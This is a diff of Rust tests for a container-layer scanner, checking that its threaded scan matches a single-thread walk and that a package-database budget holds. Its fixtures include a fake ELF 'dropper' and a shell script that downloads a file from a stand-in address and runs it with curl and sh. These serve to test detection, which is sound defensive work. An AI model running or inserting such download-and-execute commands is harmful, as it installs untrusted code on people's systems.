@@ -1,6 +1,6 @@
 //! The ranged digests against digests of the same bytes computed directly:
 //! jobs across, at and inside chunk boundaries, a package worker that skips
-//! chunks, and a whole layer scanned by the four threads against the same
+//! chunks, and a whole layer scanned by the threaded pass against the same
 //! tar walked on one thread.
 
 use std::io::Read;
@@ -12,7 +12,9 @@ use md5::Digest as _;
 
 use super::*;
 use crate::fixture::{LayerBuilder, compress};
-use crate::layer::{Compression, LayerIndex, LayerInput, WalkContext, scan_layer, walk_tar};
+use crate::layer::{
+    Compression, ContentKind, LayerIndex, LayerInput, WalkContext, scan_layer, walk_tar,
+};
 use crate::limits::Limits;
 
 fn data(n: usize) -> Vec<u8> {
@@ -201,6 +203,8 @@ fn the_reader_hands_chunks_on_after_their_jobs() {
     let (tx, rx) = sync_channel(8);
     let (sha_tx, sha_rx) = sync_channel(64);
     let (pkg_tx, pkg_rx) = sync_channel(64);
+    let (insp_tx, insp_rx) = sync_channel(64);
+    let (insp2_tx, insp2_rx) = sync_channel(64);
     for c in [data(100), data(100), data(100), data(100)] {
         tx.send(Arc::new(c)).unwrap();
     }
@@ -212,6 +216,7 @@ fn the_reader_hands_chunks_on_after_their_jobs() {
         Outlets {
             sha: sha_tx,
             pkg: pkg_tx,
+            insp: [insp_tx, insp2_tx],
         },
     );
     let mut buf = [0u8; 30];
@@ -225,6 +230,7 @@ fn the_reader_hands_chunks_on_after_their_jobs() {
             pkg: PkgDigests::BOTH,
         },
         true,
+        ImagePath::new("bin/x"),
     );
     let mut rest = Vec::new();
     r.read_to_end(&mut rest).unwrap();
@@ -242,6 +248,10 @@ fn the_reader_hands_chunks_on_after_their_jobs() {
         "the job comes with the chunk it starts in"
     );
     assert_eq!(pkg.iter().map(|b| b.start).collect::<Vec<_>>(), [0, 100]);
+    let insp: Vec<Batch<InspectJob>> = insp_rx.iter().collect();
+    assert_eq!(insp.iter().map(|b| b.start).collect::<Vec<_>>(), [0, 100]);
+    assert_eq!(insp[0].jobs[0].path, ImagePath::new("bin/x"));
+    assert_eq!(insp2_rx.iter().count(), 0, "the other inspector has no job");
 }
 
 fn walk_inline(tar: &[u8]) -> LayerIndex {
@@ -259,7 +269,10 @@ fn walk_inline(tar: &[u8]) -> LayerIndex {
 }
 
 fn scan(tar: &[u8]) -> LayerIndex {
-    let limits = Limits::default();
+    scan_with(tar, &Limits::default())
+}
+
+fn scan_with(tar: &[u8], limits: &Limits) -> LayerIndex {
     let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
     let blob = compress(tar, Compression::Gzip);
     let input = LayerInput {
@@ -268,23 +281,43 @@ fn scan(tar: &[u8]) -> LayerIndex {
         size: None,
         media_type: None,
         diff_id: Some(Sha256::of(tar)),
-        limits: &limits,
+        limits,
         image_bytes: &bytes,
         image_entries: &entries,
     };
     scan_layer(Box::new(std::io::Cursor::new(blob)), &input).expect("scan")
 }
 
-/// Every entry's sha256 and package digests are those of the one-thread
-/// walk, for files inside, across and at the edges of the 256 KiB chunks,
-/// empty and sparse files, hardlinks (to a pending file, to a hardlink),
-/// database files and files where package managers keep their state.
+/// A binary-looking file of `n` bytes that names a download library, its
+/// API and a URL (the strings straddle the pass's 64 KiB chunks).
+fn dropper(n: usize) -> Vec<u8> {
+    let mut b = b"\x7fELF\x02\x01\x01\0".to_vec();
+    let strings: &[u8] = b"\0libcurl.so.4\0curl_easy_perform\0http://203.0.113.9/x.bin\0";
+    while b.len() < n {
+        b.extend_from_slice(&data(977));
+        b.extend_from_slice(strings);
+    }
+    b.truncate(n);
+    b
+}
+
+/// Every entry (digests, package digests, content kind, inspection facts)
+/// is what the one-thread walk records, for files inside, across and at
+/// the edges of the chunks, empty and sparse files, hardlinks (to a
+/// pending file, to a hardlink), binaries and scripts the inspectors
+/// read, database files and files where package managers keep their state.
 #[test]
-fn the_four_thread_scan_records_what_one_thread_does() {
+fn the_threaded_scan_records_what_one_thread_does() {
     let big = data(700_000);
+    let bin = dropper(300_000);
+    let script = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/i.sh -o /tmp/i.sh && sh /tmp/i.sh\n";
     let status = b"Package: x\nStatus: install ok installed\n";
     let tar = LayerBuilder::new()
         .file("usr/bin/a", b"#!/bin/sh\necho a\n", 0o755)
+        .file("usr/local/bin/fetch", &bin, 0o755)
+        .hardlink("usr/local/bin/fetch2", "usr/local/bin/fetch")
+        .file("opt/get.sh", script, 0o755)
+        .hardlink("opt/get-link.sh", "opt/get.sh")
         .file("usr/share/empty", b"", 0o644)
         .file("usr/lib/big.so", &big, 0o644)
         .hardlink("usr/lib/big-link.so", "usr/lib/big.so")
@@ -309,7 +342,14 @@ fn the_four_thread_scan_records_what_one_thread_does() {
     for (a, b) in one.entries.iter().zip(&four.entries) {
         assert_eq!(a, b, "{}", a.path);
     }
+    assert_eq!(one.findings.len(), four.findings.len());
     let by = |p: &str| four.entries.iter().find(|e| e.path.display() == p).unwrap();
+    for p in ["/usr/local/bin/fetch2", "/opt/get-link.sh"] {
+        let facts = by(p).facts.clone();
+        assert!(facts.is_some_and(|f| f.is_notable()), "{p}: inspected");
+    }
+    assert_eq!(by("/usr/local/bin/fetch2").content, ContentKind::Elf);
+    assert_eq!(by("/opt/get-link.sh").size, script.len() as u64);
     assert_eq!(by("/usr/lib/big.so").sha256, Some(Sha256::of(&big)));
     let pkg = by("/usr/lib/link-of-link.so").pkg.clone().unwrap();
     assert_eq!((pkg.md5, pkg.sha1), md5_sha1(&big));
@@ -370,4 +410,28 @@ fn a_file_claiming_an_impossible_size_is_an_error_not_a_panic() {
             .expect_err("an impossible size is an error");
         eprintln!("size {claimed}: {err}");
     }
+}
+
+/// The package database budget keeps the databases the layer lists first,
+/// as a one-thread walk does, though the inspection workers share the
+/// files out (here the first and third go to one worker, the second to
+/// the other, which answers after it).
+#[test]
+fn the_database_budget_goes_by_layer_order_across_inspectors() {
+    let info = |n: usize| format!("/usr/bin/tool{n}\n").repeat(n).into_bytes();
+    let (a, b, c) = (info(10), info(15), info(6));
+    let tar = LayerBuilder::new()
+        .file("var/lib/dpkg/info/a.list", &a, 0o644)
+        .file("var/lib/dpkg/info/b.list", &b, 0o644)
+        .file("var/lib/dpkg/info/c.list", &c, 0o644)
+        .tar_bytes();
+    let limits = Limits {
+        max_package_db: (a.len() + b.len() + c.len() - 1) as u64,
+        ..Limits::default()
+    };
+    let index = scan_with(&tar, &limits);
+    let kept: Vec<bool> = (index.entries.iter())
+        .map(|e| e.pkg.as_ref().is_some_and(|p| p.db.is_some()))
+        .collect();
+    assert_eq!(kept, [true, true, false], "the last one is over the budget");
 }
